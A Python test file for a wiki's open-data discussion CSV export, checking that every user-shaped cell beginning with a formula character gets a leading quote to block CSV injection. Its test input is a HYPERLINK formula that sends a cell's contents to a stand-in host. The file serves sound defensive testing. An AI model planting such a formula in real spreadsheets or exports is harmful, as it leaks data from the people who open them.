"""The discussion CSV download never hands a spreadsheet a formula (OWASP "CSV injection").

Every cell a person can shape (the commenter's and supporter's name, the comment, the reason
it was hidden, what it is on) is tried with each character that starts a formula.
"""

from __future__ import annotations

import csv
import io

from starlette.testclient import TestClient

from tests.conftest import PASSWORD
from wiki.models import Role
from wiki.services.site import Site

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("https://example.org/?"&A1,"klik")'


def test_every_cell_that_would_start_a_formula_gets_a_quote_first(client: TestClient, site: Site) -> None:
    maintainer = site.accounts.add_user("beheerder", PASSWORD, Role.MAINTAINER, display_name="@Beheer")
    names = ["=Anna", "+Bert", "-Cor", "@Dirk"]
    people = [site.accounts.add_user(f"mens{n}", PASSWORD, Role.CONTRIBUTOR, display_name=name)
              for n, name in enumerate(names)]  # fmt: skip
    proposal = site.proposals.create(people[0], "T", "", [("over", "# Over\n")])
    target = f"proposal:{proposal.id}"
    for person, start in zip(people * 2, FORMULA_STARTS, strict=False):
        site.discussion.add(target, person, f"{start}{PAYLOAD}")  # (tab and CR are stripped here...)
        site.database.add_comment(target, person.id, f"{start}{PAYLOAD}")  # (...not by an older version)
    for person in people:
        site.discussion.support(proposal.id, person, supported=True)
    hidden = site.discussion.add(target, people[0], "Weg ermee")
    site.discussion.hide(target, hidden, maintainer, f"-{PAYLOAD}")
    site.database.add_comment(f"={PAYLOAD}", people[1].id, "Op een vreemd doel")  # as an older version might

    rows = list(csv.reader(io.StringIO(client.get("/open-data/discussion.csv").text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    authors = {row[3] for row in rows[1:]}
    assert authors == {"'" + name for name in names}
    bodies = {row[5] for row in rows[1:] if row[0] == "comment"}
    assert {"'" + start + PAYLOAD for start in FORMULA_STARTS} <= bodies
    assert "'-" + PAYLOAD in {row[7] for row in rows[1:]}
    assert "'=" + PAYLOAD in {row[2] for row in rows[1:]}
